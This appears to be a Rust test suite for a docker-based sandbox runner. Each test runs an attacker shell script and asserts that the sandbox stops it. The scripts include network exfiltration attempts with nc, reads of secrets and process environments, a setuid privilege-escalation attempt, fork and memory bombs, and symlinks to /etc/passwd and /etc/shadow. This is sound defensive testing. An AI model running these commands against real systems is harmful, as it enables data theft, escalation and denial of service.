@@ -1,0 +1,232 @@
+//! The hostile-agent suite: in each test a stage is an attacker script, run by the docker
+//! executor with the default policy, and the test fails if the attack succeeds. (The agent
+//! stage kind runs the same container as a `run:` stage; the attacks are plain commands so
+//! that each test reads as the attack it is.)
+
+use std::net::{TcpListener, UdpSocket};
+use std::process::Command;
+use std::time::Duration;
+
+use serde_json::Value;
+
+use super::output;
+use super::run::{Repo, containers_of, finished, log_text, outcome};
+
+/// Runs a one-stage attack; returns the events and the attacker's log.
+fn attack(script: &str, extra_stage: &str) -> (Repo, Vec<Value>, String) {
+    let indented: String = script.lines().map(|l| format!("      {l}\n")).collect();
+    let repo = Repo::new(&format!(
+        "  attacker:\n    timeout: 30s\n    resources: {{ memory: 64m, pids: 64 }}\n    run: |\n{indented}{extra_stage}"
+    ));
+    let (_, ev, _) = repo.run(&[]);
+    let log = log_text(&ev, "attacker");
+    (repo, ev, log)
+}
+
+/// The address containers would use to reach this host (the default bridge's gateway).
+fn host_from_container() -> String {
+    let out = Command::new("docker")
+        .args(["network", "inspect", "bridge", "--format", "{{range .IPAM.Config}}{{.Gateway}}{{end}}"])
+        .output()
+        .expect("docker network inspect");
+    let gw = String::from_utf8_lossy(&out.stdout).trim().to_owned();
+    if gw.is_empty() { "172.17.0.1".into() } else { gw }
+}
+
+#[test]
+fn no_tcp_with_network_none() {
+    let listener = TcpListener::bind("0.0.0.0:0").expect("bind");
+    listener.set_nonblocking(true).expect("nonblocking");
+    let port = listener.local_addr().expect("addr").port();
+    let host = host_from_container();
+    let (_, _, log) = attack(&format!("nc -w 3 {host} {port} </dev/null && echo CONNECTED || echo blocked"), "");
+    assert!(log.contains("blocked") && !log.contains("CONNECTED"), "{log}");
+    assert!(listener.accept().is_err(), "the attacker reached a TCP server on the host");
+}
+
+#[test]
+fn no_udp_with_network_none() {
+    let sock = UdpSocket::bind("0.0.0.0:0").expect("bind");
+    sock.set_read_timeout(Some(Duration::from_millis(500))).expect("timeout");
+    let port = sock.local_addr().expect("addr").port();
+    let host = host_from_container();
+    let (_, _, log) = attack(&format!("echo leak | nc -u -w 1 {host} {port}; echo sent-attempted"), "");
+    assert!(log.contains("sent-attempted"), "{log}");
+    let mut buf = [0u8; 64];
+    assert!(sock.recv_from(&mut buf).is_err(), "a UDP datagram left the container");
+}
+
+#[test]
+fn no_dns_with_network_none() {
+    let (_, _, log) = attack("nslookup example.com 2>&1 && echo RESOLVED || echo no-dns", "");
+    assert!(log.contains("no-dns") && !log.contains("RESOLVED"), "{log}");
+}
+
+#[test]
+fn no_network_interface_but_loopback() {
+    let (_, _, log) = attack("ls /sys/class/net", "");
+    assert_eq!(log.trim(), "lo");
+}
+
+#[test]
+fn host_files_outside_the_workspace_are_not_visible() {
+    let outside = tempfile::tempdir().expect("dir");
+    let secret = outside.path().join("host-secret.txt");
+    std::fs::write(&secret, "HOST-CANARY-83").expect("write");
+    let (_, _, log) = attack(&format!("cat {} 2>&1; cat /etc/hostname; ls /home /root 2>&1", secret.display()), "");
+    assert!(!log.contains("HOST-CANARY-83"), "{log}");
+}
+
+#[test]
+fn the_docker_socket_is_not_there() {
+    let (_, _, log) = attack("ls -l /var/run/docker.sock /run/docker.sock 2>&1; echo done", "");
+    assert!(log.contains("No such file"), "{log}");
+}
+
+#[test]
+fn nothing_outside_the_workspace_and_tmp_is_writable() {
+    let (_, _, log) = attack(
+        "for d in / /etc /usr /bin /lightsout-nope /var; do touch $d/x 2>/dev/null && echo WROTE $d; done; echo checked",
+        "",
+    );
+    assert!(log.contains("checked") && !log.contains("WROTE"), "{log}");
+}
+
+#[test]
+fn no_privilege_escalation() {
+    let (_, _, log) = attack(
+        "grep -E 'CapEff|NoNewPrivs' /proc/self/status\n\
+         cp /bin/busybox /tmp/sh && chmod u+s /tmp/sh && /tmp/sh -c 'id -u'\n\
+         chown 0 /tmp/sh 2>/dev/null && echo CHOWNED\n\
+         mount -t tmpfs none /tmp 2>/dev/null && echo MOUNTED\n\
+         echo id=$(id -u)",
+        "",
+    );
+    assert!(log.contains("CapEff:\t0000000000000000") && log.contains("NoNewPrivs:\t1"), "{log}");
+    assert!(!log.contains("CHOWNED") && !log.contains("MOUNTED"), "{log}");
+    assert!(!log.lines().any(|l| l.trim() == "0"), "a setuid copy ran as root: {log}");
+    assert!(!log.contains("id=0"), "{log}");
+}
+
+#[test]
+fn a_fork_bomb_hits_the_pids_limit_and_the_runner_survives() {
+    let (repo, ev, log) = attack(
+        "i=0; while [ $i -lt 500 ]; do sleep 60 & i=$((i+1)); done",
+        "  later:\n    run: echo the runner goes on\n",
+    );
+    assert!(log.contains("can't fork") || log.contains("Resource temporarily unavailable"), "{log}");
+    assert_eq!(outcome(&ev, "attacker"), "failed");
+    let run = repo.run_ids().pop().expect("run");
+    assert!(containers_of(&run).is_empty());
+}
+
+#[test]
+fn a_memory_bomb_is_killed_at_the_limit() {
+    let (_, ev, _) = attack("dd if=/dev/zero of=/dev/null bs=256M count=1 && echo ALLOCATED", "");
+    assert_eq!(outcome(&ev, "attacker"), "failed", "{ev:#?}");
+    assert!(!log_text(&ev, "attacker").contains("ALLOCATED"));
+}
+
+#[test]
+fn tmp_cannot_fill_the_disk() {
+    // Enough memory that the tmpfs size, not the memory limit, is what stops it.
+    let repo = Repo::new(
+        "  attacker:\n    resources: { memory: 1g }\n    run: dd if=/dev/zero of=/tmp/fill bs=1M count=800 2>&1 | tail -n 2; echo done\n",
+    );
+    let (_, ev, _) = repo.run(&[]);
+    let log = log_text(&ev, "attacker");
+    // dd stops where the 512 MiB tmpfs is full, never writing the 800 MiB it asked for.
+    assert!(log.contains("512+0 records out") && !log.contains("800+0 records out"), "{log}");
+}
+
+#[test]
+fn a_process_left_behind_dies_with_the_stage() {
+    let (repo, ev, _) = attack("(sleep 300 &) ; nohup sleep 300 >/dev/null 2>&1 & echo spawned", "");
+    assert_eq!(outcome(&ev, "attacker"), "succeeded");
+    let run = repo.run_ids().pop().expect("run");
+    assert!(containers_of(&run).is_empty(), "a container outlived its stage");
+}
+
+#[test]
+fn another_stages_secret_and_the_runners_environment_are_out_of_reach() {
+    let repo = Repo::with_policy(
+        "  holder:\n    secrets: [HOLDER_TOKEN]\n    run: sleep 2\n  attacker:\n    run: env; cat /proc/*/environ 2>/dev/null | tr '\\\\0' '\\\\n'; echo done\n",
+        Some("version: 1\nsecrets: { HOLDER_TOKEN: { stages: [run] } }\n"),
+    );
+    let mut c = repo.cmd(&["--jobs", "2"]);
+    c.env("HOLDER_TOKEN", "holder-secret-5521").env("RUNNER_CANARY", "runner-canary-9934");
+    let (code, out, err) = output(&mut c);
+    assert_eq!(code, 0, "{err}");
+    let ev = super::run::events(&out);
+    let log = log_text(&ev, "attacker");
+    assert!(log.contains("done"), "{log}");
+    assert!(!log.contains("holder-secret-5521") && !log.contains("runner-canary-9934"), "{log}");
+    assert!(!log.contains("RUNNER_CANARY") && !log.contains("HOLDER_TOKEN"), "{log}");
+}
+
+#[test]
+fn planted_symlinks_do_not_lead_the_host_side_runner_out() {
+    let (repo, ev, _) = attack(
+        "ln -s /etc/passwd leak.txt\nln -s / rootlink\nmkdir -p docs && ln -s /etc/shadow docs/notes.md",
+        "  ctx:\n    needs: [attacker]\n    uses: context\n    with: { include: [\"**\"] }\n  scope:\n    needs: [attacker]\n    uses: grade.diff\n",
+    );
+    assert_eq!(outcome(&ev, "ctx"), "succeeded", "{ev:#?}");
+    let run = repo.run_ids().pop().expect("run");
+    let bundle = std::fs::read_to_string(repo.record(&run).join("stages/ctx/context.md")).expect("bundle");
+    assert!(!bundle.contains("root:x:0:0"), "context followed a symlink: {bundle}");
+    assert!(bundle.contains("leak.txt: a symbolic link (not followed)"), "{bundle}");
+    let patch = std::fs::read_to_string(repo.record(&run).join("diff.patch")).unwrap_or_default();
+    assert!(!patch.contains("root:x:0:0"), "the diff followed a symlink");
+    let (_, md, _) = output(super::lightsout(repo.path()).args(["report", &run]));
+    assert!(!md.contains("root:x:0:0"));
+}
+
+#[test]
+fn a_planted_git_file_does_not_redirect_the_runner() {
+    let decoy = tempfile::tempdir().expect("decoy");
+    let (repo, ev, _) = attack(
+        &format!("echo 'gitdir: {}' > .git\necho change > file.txt", decoy.path().display()),
+        "  after:\n    needs: [attacker]\n    run: cat file.txt\n",
+    );
+    assert_eq!(outcome(&ev, "after"), "succeeded", "{ev:#?}");
+    assert_eq!(std::fs::read_dir(decoy.path()).map(Iterator::count).unwrap_or(0), 0, "git wrote into the decoy");
+    let run = repo.run_ids().pop().expect("run");
+    let patch = std::fs::read_to_string(repo.record(&run).join("diff.patch")).unwrap_or_default();
+    assert!(patch.contains("+change"), "{patch}");
+}
+
+#[test]
+fn the_outputs_file_cannot_be_a_symlink_to_a_host_file() {
+    let (_, ev, _) = attack("ln -sf /etc/passwd $LIGHTSOUT_OUTPUT", "");
+    assert_eq!(outcome(&ev, "attacker"), "failed");
+    let f = finished(&ev, "attacker")[0];
+    assert!(f["reason"].as_str().unwrap_or_default().contains("not a regular file"), "{f:#?}");
+    assert!(!f.to_string().contains("root:x:0:0"));
+}
+
+#[test]
+fn an_oversized_outputs_file_is_refused() {
+    let (_, ev, _) = attack("head -c 2000000 /dev/zero | tr '\\\\0' a | sed 's/^/k=/' > $LIGHTSOUT_OUTPUT", "");
+    let f = finished(&ev, "attacker")[0];
+    assert!(f["reason"].as_str().unwrap_or_default().contains("larger than"), "{f:#?}");
+}
+
+#[test]
+fn escape_sequences_in_output_never_reach_the_terminal() {
+    let repo = Repo::new("  attacker:\n    run: |\n      printf '\\033]0;pwned\\007\\033[2J\\033[31mred\\n'\n");
+    let (code, _, err) =
+        output(super::lightsout(repo.path()).args(["run", "--ticket", "t.md", "--category", "misc"]).env("CI", "true"));
+    assert_eq!(code, 0, "{err}");
+    assert!(err.contains("[31mred"), "{err}");
+    assert!(!err.contains('\u{1b}') && !err.contains('\u{7}'), "{err:?}");
+}
+
+#[test]
+fn a_stage_running_past_its_timeout_is_stopped_and_removed() {
+    let repo = Repo::new("  attacker:\n    timeout: 2s\n    run: trap '' TERM; while true; do sleep 1; done\n");
+    let (code, ev, _) = repo.run(&[]);
+    assert_eq!(code, 1);
+    assert_eq!(outcome(&ev, "attacker"), "timed_out");
+    let run = repo.run_ids().pop().expect("run");
+    assert!(containers_of(&run).is_empty());
+}
